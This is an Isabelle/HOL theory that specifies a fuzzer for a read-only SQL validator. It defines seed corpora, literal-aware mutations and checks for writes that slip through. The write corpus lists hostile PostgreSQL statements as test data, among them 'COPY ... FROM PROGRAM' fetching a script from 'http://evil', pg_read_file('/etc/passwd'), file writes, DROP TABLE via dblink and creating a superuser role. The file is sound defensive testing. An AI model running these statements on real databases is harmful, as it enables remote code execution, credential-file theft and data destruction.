(* ===== verification/Fuzz.thy ===== *)
theory Fuzz
  imports Enforce_Limit Db_Exec "HOL-Library.State_Monad" "HOL-Library.Word"
begin

text \<open>
  The deterministic fuzzer of the validator (\<open>src/fuzz.rs\<close>): the generator of pseudo-random numbers on
  64-bit words, the corpora, the scanner that finds where an insertion cannot land inside a literal or a
  comment, the mutations, and the invariants a run checks. Texts are bytes in UTF-8; positions are bytes.
\<close>

unbundle bit_operations_syntax

section \<open>Random numbers\<close>

type_synonym rng = "64 word"

type_synonym 'a gen = "(rng, 'a) state"

definition rng_new :: "rng \<Rightarrow> rng" where
  "rng_new seed = seed OR 1"

definition xorshift :: "rng \<Rightarrow> rng" where
  "xorshift x0 =
     (let x1 = x0 XOR drop_bit 12 x0;
          x2 = x1 XOR push_bit 25 x1 in
      x2 XOR drop_bit 27 x2)"

definition next_u64 :: "rng gen" where
  "next_u64 = State (\<lambda>x. (xorshift x * 0x2545F4914F6CDD1D, xorshift x))"

definition below :: "nat \<Rightarrow> nat gen" where
  "below n = (if n = 0 then State_Monad.return 0
     else do { v \<leftarrow> next_u64; State_Monad.return (unat v mod n) })"

definition pick :: "'a list \<Rightarrow> 'a gen" where
  "pick xs = do { i \<leftarrow> below (length xs); State_Monad.return (xs ! i) }"

fun repeat_gen :: "nat \<Rightarrow> 'a gen \<Rightarrow> 'a list gen" where
  "repeat_gen 0 g = State_Monad.return []"
| "repeat_gen (Suc n) g = do { x \<leftarrow> g; xs \<leftarrow> repeat_gen n g; State_Monad.return (x # xs) }"

section \<open>Corpora\<close>

definition WRITE_SEEDS :: "string list" where
  "WRITE_SEEDS =
    [''INSERT INTO users VALUES (1)'',
     ''UPDATE users SET name = 'bob' WHERE id = 1'',
     ''DELETE FROM users WHERE id = 1'',
     ''DROP TABLE users'',
     ''TRUNCATE users'',
     ''ALTER TABLE users ADD COLUMN age INT'',
     ''CREATE TABLE t (id int)'',
     ''CREATE TEMP TABLE t AS SELECT 1'',
     ''CREATE MATERIALIZED VIEW mv AS SELECT 1'',
     ''REFRESH MATERIALIZED VIEW mv'',
     ''GRANT ALL ON users TO public'',
     ''COPY users FROM PROGRAM 'curl http://evil/x.sh'' @ [CHR 0x27],
     ''COPY (SELECT 1) TO '/tmp/x'' @ [CHR 0x27],
     ''DO $$ BEGIN PERFORM 1; END $$'',
     ''CALL some_proc()'',
     ''VACUUM users'',
     ''ANALYZE users'',
     ''REINDEX TABLE users'',
     ''SET ROLE postgres'',
     ''SET default_transaction_read_only = off'',
     ''RESET ALL'',
     ''DISCARD ALL'',
     ''BEGIN'',
     ''COMMIT'',
     ''LOCK TABLE users'',
     ''DECLARE c CURSOR FOR SELECT 1'',
     ''FETCH ALL FROM c'',
     ''MERGE INTO users u USING staging s ON u.id = s.id WHEN MATCHED THEN DELETE'',
     ''PREPARE p AS INSERT INTO users VALUES (1)'',
     ''EXECUTE p'',
     ''CREATE FUNCTION f() RETURNS int AS 'SELECT 1' LANGUAGE sql'',
     ''LISTEN ch'',
     ''NOTIFY ch, 'x'' @ [CHR 0x27],
     ''CREATE ROLE hacker LOGIN SUPERUSER'',
     ''WITH x AS (INSERT INTO users VALUES (1) RETURNING *) SELECT * FROM x'',
     ''WITH x AS (UPDATE users SET n = 1 RETURNING *) SELECT * FROM x'',
     ''WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x'',
     ''SELECT * FROM (INSERT INTO t VALUES (1) RETURNING *) AS i'',
     ''SELECT 1 INTO diff_probe_a'',
     ''SELECT table_name FROM information_schema.tables INTO probe_b'',
     ''SELECT * FROM users FOR UPDATE'',
     ''SELECT * FROM users FOR SHARE'',
     ''EXPLAIN ANALYZE SELECT 1'',
     ''EXPLAIN (ANALYZE) SELECT * FROM users'',
     ''EXPLAIN ANALYZE INSERT INTO users VALUES (1)'',
     ''SELECT setval('users_id_seq', 1)'',
     ''SELECT nextval('users_id_seq')'',
     ''SELECT pg_sleep(10)'',
     ''SELECT pg_notify('ch', 'x')'',
     ''SELECT set_config('search_path', 'evil', false)'',
     ''SELECT pg_read_file('/etc/passwd')'',
     ''SELECT pg_file_write('/tmp/x', 'y', false)'',
     ''SELECT lo_export(1, '/tmp/x')'',
     ''SELECT dblink_exec('dbname=x', 'DROP TABLE t')'',
     ''SELECT pg_terminate_backend(1)'',
     ''SELECT pg_advisory_lock(1)'',
     ''SELECT pg_stat_reset()'',
     ''SELECT pg_logical_emit_message(true, 'p', 'x')'',
     ''SELECT pg_create_logical_replication_slot('s', 'test_decoding')'',
     ''SELECT pg_import_system_collations('public'::regnamespace)'',
     ''SELECT gin_clean_pending_list('idx'::regclass)'',
     ''SELECT pg_backup_start('label')'',
     ''SELECT lowrite(1, 'x')'',
     ''SELECT pg_promote()'',
     ''SELECT pg_ls_waldir()'',
     ''SELECT (SELECT setval('s', 1))'',
     ''WITH x AS (SELECT pg_sleep(5)) SELECT * FROM x'',
     ''SELECT CASE WHEN true THEN pg_notify('c', 'x') END'',
     ''SELECT count(*) FROM (SELECT setval('s', 1)) q'',
     ''SELECT * FROM pg_read_file('/etc/passwd')'',
     ''SELECT 1 UNION SELECT setval('s', 1)'',
     ''SELECT array_agg(x) FROM (SELECT pg_sleep(1) AS x) t'']"

definition READ_SEEDS :: "string list" where
  "READ_SEEDS =
    [''SELECT 1'',
     ''SELECT * FROM users'',
     ''SELECT * FROM users LIMIT 5'',
     ''SELECT count(*) FROM users'',
     ''SELECT EXISTS (SELECT 1 FROM users)'',
     ''WITH x AS (SELECT 1 AS a) SELECT * FROM x'',
     ''WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM t WHERE n < 10) SELECT * FROM t'',
     ''VALUES (1, 'a'), (2, 'b')'',
     ''TABLE users'',
     ''SELECT a.id, b.name FROM a JOIN b ON a.id = b.id WHERE b.name ILIKE '%x%'' @ [CHR 0x27],
     ''SELECT jsonb_build_object('k', v) FROM t'',
     ''SELECT * FROM generate_series(1, 10)'',
     ''SELECT * FROM unnest(ARRAY[1,2,3])'',
     ''SELECT sum(amount) FROM payment GROUP BY customer_id ORDER BY 1 DESC'',
     ''SELECT 'setval(x)' AS literal_not_a_call'',
     ''SELECT $$pg_sleep(9)$$ AS dollar_literal'',
     ''SELECT E'pg_read_file' AS escaped_literal'',
     ''(SELECT 1)'',
     ''((SELECT 1))'',
     ''EXPLAIN SELECT 1'',
     ''SHOW timezone'',
     ''SELECT * FROM t WHERE x = ANY (SELECT y FROM u)'']"

definition WS :: "string list" where
  "WS = ['' '',
     [CHR 0x09],
     [CHR 0x0A],
     [CHR 0x0D, CHR 0x0A],
     [CHR 0x0C],
     [CHR 0x0B],
     ''  '' @ [CHR 0x09] @ '' '']"

definition INVISIBLE :: "string list" where
  "INVISIBLE =
    [[CHR 0xE2, CHR 0x80, CHR 0x8B],
     [CHR 0xE2, CHR 0x80, CHR 0x8C],
     [CHR 0xE2, CHR 0x80, CHR 0x8D],
     [CHR 0xEF, CHR 0xBB, CHR 0xBF],
     [CHR 0xE2, CHR 0x81, CHR 0xA0],
     [CHR 0xE2, CHR 0x80, CHR 0xAE],
     [CHR 0xE2, CHR 0x80, CHR 0xAD],
     [CHR 0xC2, CHR 0xA0],
     [CHR 0xF3, CHR 0xA0, CHR 0x80, CHR 0x81],
     [CHR 0xF3, CHR 0xA0, CHR 0x81, CHR 0xB3]]"

section \<open>Where an insertion may go\<close>

text \<open>\<open>Z_Dollar t\<close> is inside \<open>$t$ ... $t$\<close>, \<open>Z_Block d\<close> inside \<open>d\<close> nested block comments.\<close>

datatype zone = Z_Normal | Z_Single | Z_Double | Z_Dollar string | Z_Line | Z_Block nat

definition byte_pair :: "string \<Rightarrow> nat \<Rightarrow> char \<Rightarrow> char \<Rightarrow> bool" where
  "byte_pair sql i a b = (sql ! i = a \<and> i + 1 < length sql \<and> sql ! (i + 1) = b)"

definition dollar_delim :: "string \<Rightarrow> string" where
  "dollar_delim tag = CHR ''$'' # tag @ [CHR ''$'']"

definition dollar_tag :: "string \<Rightarrow> nat \<Rightarrow> string option" where
  "dollar_tag sql i =
     (if sql ! i = CHR ''$'' then
        (let rest = drop (i + 1) sql in
         case find_str ''$'' rest of
           Some end \<Rightarrow>
             (let tag = take end rest in
              if list_all (\<lambda>c. is_ascii_alphabetic c \<or> is_ascii_digit c \<or> c = CHR ''_'') tag then Some tag else None)
         | None \<Rightarrow> None)
      else None)"

text \<open>One turn of the loop: the zone after it, how many bytes it takes, and whether the position is safe.\<close>

fun zone_step :: "string \<Rightarrow> zone \<Rightarrow> nat \<Rightarrow> zone \<times> nat \<times> bool" where
  "zone_step sql Z_Normal i =
     (if sql ! i = CHR 0x27 then (Z_Single, 1, False)
      else if sql ! i = CHR 0x22 then (Z_Double, 1, False)
      else if byte_pair sql i CHR ''-'' CHR ''-'' then (Z_Line, 1, False)
      else if byte_pair sql i CHR ''/'' CHR ''*'' then (Z_Block 1, 2, False)
      else (case dollar_tag sql i of
              Some tag \<Rightarrow> (Z_Dollar tag, length (dollar_delim tag), False)
            | None \<Rightarrow> (Z_Normal, 1, is_char_boundary sql i)))"
| "zone_step sql Z_Single i = (if sql ! i = CHR 0x27 then Z_Normal else Z_Single, 1, False)"
| "zone_step sql Z_Double i = (if sql ! i = CHR 0x22 then Z_Normal else Z_Double, 1, False)"
| "zone_step sql Z_Line i = (if sql ! i = CHR 0x0A then Z_Normal else Z_Line, 1, False)"
| "zone_step sql (Z_Block d) i =
     (if byte_pair sql i CHR ''/'' CHR ''*'' then (Z_Block (d + 1), 2, False)
      else if byte_pair sql i CHR ''*'' CHR ''/'' then (if d - 1 = 0 then Z_Normal else Z_Block (d - 1), 2, False)
      else (Z_Block d, 1, False))"
| "zone_step sql (Z_Dollar tag) i =
     (if is_char_boundary sql i \<and> prefix (dollar_delim tag) (drop i sql)
      then (Z_Normal, length (dollar_delim tag), False) else (Z_Dollar tag, 1, False))"

lemma zone_step_progress: "0 < fst (snd (zone_step sql st i))"
  by (cases st) (auto simp: dollar_delim_def split: option.split)

lemma zone_step_less: "(st', n, safe) = zone_step sql st i \<Longrightarrow> 0 < n"
  by (metis fst_conv snd_conv zone_step_progress)

function safe_from :: "string \<Rightarrow> zone \<Rightarrow> nat \<Rightarrow> nat list" where
  "safe_from sql st i =
     (if length sql \<le> i then (if st = Z_Normal then [length sql] else [])
      else (case zone_step sql st i of
              (st', n, safe) \<Rightarrow> (if safe then [i] else []) @ safe_from sql st' (i + n)))"
  by pat_completeness auto
termination
  by (relation "measure (\<lambda>(sql, st, i). length sql - i)") (auto dest: zone_step_less)

declare safe_from.simps [simp del]

definition safe_positions :: "string \<Rightarrow> nat list" where
  "safe_positions sql = safe_from sql Z_Normal 0"

section \<open>Mutations\<close>

definition junk :: "nat \<Rightarrow> string gen" where
  "junk n = repeat_gen n (pick (''abcXYZ_019 '' @ [CHR 0x09] @ '';,.()[]{}*/-+='' @ [CHR 0x27, CHR 0x22] @ ''$@#%^&|~'' @ [CHR 0x60] @ ''?:!<>'' @ [CHR 0x5C]))"

definition comment_junk :: "nat \<Rightarrow> string gen" where
  "comment_junk n = repeat_gen n (pick (''abcXYZ_019 '' @ [CHR 0x09] @ '';,.()[]{}-+='' @ [CHR 0x27, CHR 0x22] @ ''$@#%^&|~'' @ [CHR 0x60] @ ''?:!<>''))"

text \<open>\<open>char::is_alphanumeric\<close>; beyond ASCII it is a table of Unicode, the argument \<open>alnum\<close>.\<close>

definition ident_char :: "(nat \<Rightarrow> bool) \<Rightarrow> nat \<Rightarrow> bool" where
  "ident_char alnum c =
     (if c < 128 then (let b = char_of c in
        is_ascii_alphabetic b \<or> is_ascii_digit b \<or> b = CHR ''_'' \<or> b = CHR ''$'') else alnum c)"

definition is_token_boundary :: "(nat \<Rightarrow> bool) \<Rightarrow> string \<Rightarrow> nat \<Rightarrow> bool" where
  "is_token_boundary alnum sql p =
     (let left = utf8_chars (take p sql); right = utf8_chars (drop p sql) in
      left = [] \<or> right = [] \<or> \<not> (ident_char alnum (last left) \<and> ident_char alnum (hd right)))"

definition insert_text :: "string \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> string" where
  "insert_text sql p what = take p sql @ what @ drop p sql"

definition flip_char :: "char \<Rightarrow> char" where
  "flip_char c = (if ascii_lower c \<noteq> c then ascii_lower c else ascii_upper c)"

definition flip_case_outside_literals :: "string \<Rightarrow> string gen" where
  "flip_case_outside_literals sql =
     (let cand = filter (\<lambda>i. i < length sql \<and> is_ascii_alphabetic (sql ! i)) (safe_positions sql) in
      if cand = [] then State_Monad.return sql
      else do { p \<leftarrow> pick cand;
                State_Monad.return (take p sql @ [flip_char (sql ! p)] @ drop (p + 1) sql) })"

text \<open>The literals between single quotes, as the positions of the first quote and after the last.\<close>

function literals_from :: "string \<Rightarrow> nat \<Rightarrow> (nat \<times> nat) list" where
  "literals_from sql i =
     (if length sql \<le> i then []
      else if sql ! i = CHR 0x27 then
        (case find_str [CHR 0x27] (drop (i + 1) sql) of
           Some off \<Rightarrow> (i, i + 1 + off + 1) # literals_from sql (i + 1 + off + 1)
         | None \<Rightarrow> [])
      else literals_from sql (i + 1))"
  by pat_completeness auto
termination by (relation "measure (\<lambda>(sql, i). length sql - i)") auto

declare literals_from.simps [simp del]

definition inner_text :: "string \<Rightarrow> nat \<times> nat \<Rightarrow> string" where
  "inner_text sql se = take (snd se - 1 - (fst se + 1)) (drop (fst se + 1) sql)"

definition requote_literal :: "string \<Rightarrow> string gen" where
  "requote_literal sql =
     (let usable = filter (\<lambda>se. let inner = inner_text sql se in
            \<not> contains_char inner CHR ''$'' \<and> \<not> contains_char inner CHR 0x5C \<and> inner \<noteq> []) (literals_from sql 0) in
      if usable = [] then State_Monad.return sql
      else do {
        k \<leftarrow> below (length usable);
        n \<leftarrow> below 3;
        let (s, e) = usable ! k;
        let inner = inner_text sql (s, e);
        let rewritten = (if n = 0 then ''$$'' @ inner @ ''$$''
           else if n = 1 then ''E'' @ [CHR 0x27] @ inner @ [CHR 0x27]
           else ''$tag$'' @ inner @ ''$tag$'');
        State_Monad.return (take s sql @ rewritten @ drop e sql) })"

definition block_comment :: "string \<Rightarrow> string" where
  "block_comment t = ''/*'' @ t @ ''*/''"

definition nested_comment :: "string \<Rightarrow> string" where
  "nested_comment t = ''/*a/*'' @ t @ ''*/b*/''"

definition line_comment :: "string \<Rightarrow> string" where
  "line_comment t = ''--'' @ map (\<lambda>c. if c = CHR 0x0A then CHR '' '' else c) t @ [CHR 0x0A]"

definition mutation :: "string \<Rightarrow> nat \<Rightarrow> nat \<Rightarrow> string gen" where
  "mutation sql p kind =
     (if kind = 0 then do { w \<leftarrow> pick WS; State_Monad.return (insert_text sql p w) }
      else if kind = 1 then do { k \<leftarrow> below 12; t \<leftarrow> comment_junk (1 + k);
        State_Monad.return (insert_text sql p (block_comment t)) }
      else if kind = 2 then do { k \<leftarrow> below 6; t \<leftarrow> comment_junk (1 + k);
        State_Monad.return (insert_text sql p (nested_comment t)) }
      else if kind = 3 then do { k \<leftarrow> below 12; t \<leftarrow> comment_junk (1 + k);
        State_Monad.return (insert_text sql p (line_comment t)) }
      else if kind = 4 then do { w \<leftarrow> pick INVISIBLE; State_Monad.return (insert_text sql p w) }
      else if kind = 5 then flip_case_outside_literals sql
      else if kind = 6 then requote_literal sql
      else State_Monad.return (''('' @ sql @ '')''))"

definition mutate_once :: "(nat \<Rightarrow> bool) \<Rightarrow> string \<Rightarrow> string gen" where
  "mutate_once alnum sql =
     (let pos = safe_positions sql; boundaries = filter (is_token_boundary alnum sql) pos in
      if pos = [] then State_Monad.return sql
      else if boundaries = [] then flip_case_outside_literals sql
      else do { p \<leftarrow> pick boundaries; kind \<leftarrow> below 8; mutation sql p kind })"

fun mutate :: "(nat \<Rightarrow> bool) \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> string gen" where
  "mutate alnum 0 sql = State_Monad.return sql"
| "mutate alnum (Suc n) sql = do { m \<leftarrow> mutate_once alnum sql; mutate alnum n m }"

definition copies :: "nat \<Rightarrow> string \<Rightarrow> string" where
  "copies n s = concat (replicate n s)"

definition garbage :: "string gen" where
  "garbage = do {
     kind \<leftarrow> below 6;
     if kind = 0 then do { n \<leftarrow> below 200; junk (1 + n) }
     else if kind = 1 then do { n \<leftarrow> below 300; State_Monad.return (''SELECT '' @ copies (1 + n) ''('') }
     else if kind = 2 then do { n \<leftarrow> below 200; m \<leftarrow> below 200;
       State_Monad.return (copies (1 + n) ''('' @ ''SELECT 1'' @ copies (1 + m) '')'') }
     else if kind = 3 then do { n \<leftarrow> below 2000; State_Monad.return (''SELECT '' @ copies (1 + n) ''1+'') }
     else if kind = 4 then do { n \<leftarrow> below 200;
       State_Monad.return (''WITH '' @ copies (1 + n) ''x AS (SELECT 1), '' @ '' SELECT 1'') }
     else do { n \<leftarrow> below 50; s \<leftarrow> repeat_gen (1 + n) (pick INVISIBLE);
       State_Monad.return (''SELECT'' @ concat s @ ''1'') } }"

section \<open>The invariants\<close>

definition SLOW_MS :: nat where
  "SLOW_MS = 250"

record fuzz_finding =
  fi_kind :: string
  fi_input :: string
  fi_detail :: string

record fuzz_report =
  fr_iters :: nat
  fr_seed :: rng
  fr_findings :: "fuzz_finding list"
  fr_slowest_ms :: nat
  fr_slowest_input :: string

text \<open>What a run uses of its surroundings: the parser, the environment, the milliseconds a validation takes
  (by the number of the iteration) and the calls in which the parser panics.\<close>

datatype fuzz_call = Validating | Capping | Rechecking

record fuzz_world =
  fw_parser :: sqlparser
  fw_env :: env
  fw_alnum :: "nat \<Rightarrow> bool"
  fw_ms :: "nat \<Rightarrow> string \<Rightarrow> nat"
  fw_panics :: "fuzz_call \<Rightarrow> string \<Rightarrow> bool"

definition trunc :: "string \<Rightarrow> string" where
  "trunc s =
     (let cs = utf8_chars s in
      if length cs \<le> 120 then s else concat (map utf8_encode (take 120 cs)) @ [CHR 0xE2, CHR 0x80, CHR 0xA6])"

definition found :: "string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> fuzz_finding" where
  "found kind inp detail = \<lparr>fi_kind = kind, fi_input = inp, fi_detail = detail\<rparr>"

text \<open>What the checks after an accepting verdict find: the text that reaches the database has to defend
  itself.\<close>

definition check_canon :: "fuzz_world \<Rightarrow> string \<Rightarrow> fuzz_finding list" where
  "check_canon W inp =
     (if fw_panics W Capping inp then [found ''PANIC'' inp (''enforce_limit panicked'')]
      else (case enforce_limit (fw_parser W) (fw_env W) inp 1000 of
              Inl e \<Rightarrow> []
            | Inr canon \<Rightarrow>
                if fw_panics W Rechecking inp then [found ''PANIC'' inp (''a check on the canonical text panicked'')]
                else (if \<not> is_ok (validate_readonly (fw_parser W) (fw_env W) canon)
                      then [found ''CANON_UNSAFE'' inp (''canonical form is rejected by the validator (I3): '' @ trunc canon)] else [])
                  @ (if is_query_stmt (fw_parser W) inp \<and> \<not> is_row_query canon
                     then [found ''COST_BYPASS'' inp (''a Query whose canonical text is not a row-query, so it skips the cost guard (I4): '' @ trunc canon)] else [])))"

definition check_verdict :: "fuzz_world \<Rightarrow> string \<Rightarrow> bool \<Rightarrow> fuzz_finding list" where
  "check_verdict W inp must_reject =
     (if fw_panics W Validating inp then [found ''PANIC'' inp ''validate_readonly panicked'']
      else if \<not> is_ok (validate_readonly (fw_parser W) (fw_env W) inp) then []
      else if must_reject then [found ''ALLOWED_WRITE'' inp ''a mutated write passed the validator (I1)'']
      else check_canon W inp)"

definition fuzz_check ::
  "fuzz_world \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> bool \<Rightarrow> fuzz_finding list \<times> nat \<times> string \<Rightarrow> fuzz_finding list \<times> nat \<times> string" where
  "fuzz_check W i inp must_reject fs =
     (case fs of (findings, slowest) \<Rightarrow>
        let ms = fw_ms W i inp in
        (findings @ (if SLOW_MS < ms then [found ''SLOW'' inp (nat_str ms @ '' ms'')] else [])
           @ check_verdict W inp must_reject,
         if fst slowest < ms then (ms, inp) else slowest))"

text \<open>The text an iteration tries and whether it has to be rejected.\<close>

definition fuzz_input :: "fuzz_world \<Rightarrow> nat \<Rightarrow> (string \<times> bool) gen" where
  "fuzz_input W i =
     (if i mod 10 \<le> 5 then do {
        base \<leftarrow> pick WRITE_SEEDS; n \<leftarrow> below 4; m \<leftarrow> mutate (fw_alnum W) (1 + n) base; State_Monad.return (m, True) }
      else if i mod 10 \<le> 7 then do {
        base \<leftarrow> pick READ_SEEDS; n \<leftarrow> below 3; m \<leftarrow> mutate (fw_alnum W) (1 + n) base; State_Monad.return (m, False) }
      else if i mod 10 = 8 then do {
        r \<leftarrow> pick READ_SEEDS; w \<leftarrow> pick WRITE_SEEDS; sep \<leftarrow> pick ['';'',
     ''; '',
     '';'' @ [CHR 0x0A],
     '';--x'' @ [CHR 0x0A],
     '';/*c*/''];
        State_Monad.return (r @ sep @ w, True) }
      else do { g \<leftarrow> garbage; State_Monad.return (g, False) })"

fun fuzz_loop ::
  "fuzz_world \<Rightarrow> nat list \<Rightarrow> fuzz_finding list \<times> nat \<times> string \<Rightarrow> (fuzz_finding list \<times> nat \<times> string) gen" where
  "fuzz_loop W [] fs = State_Monad.return fs"
| "fuzz_loop W (i # is) fs =
     do { (inp, must_reject) \<leftarrow> fuzz_input W i; fuzz_loop W is (fuzz_check W i inp must_reject fs) }"

definition fuzz_run :: "fuzz_world \<Rightarrow> nat \<Rightarrow> rng \<Rightarrow> fuzz_report" where
  "fuzz_run W iters seed =
     (case fst (run_state (fuzz_loop W [0..<iters] ([], 0, [])) (rng_new seed)) of
        (findings, ms, inp) \<Rightarrow>
          \<lparr>fr_iters = iters, fr_seed = seed, fr_findings = findings, fr_slowest_ms = ms, fr_slowest_input = trunc inp\<rparr>)"

end
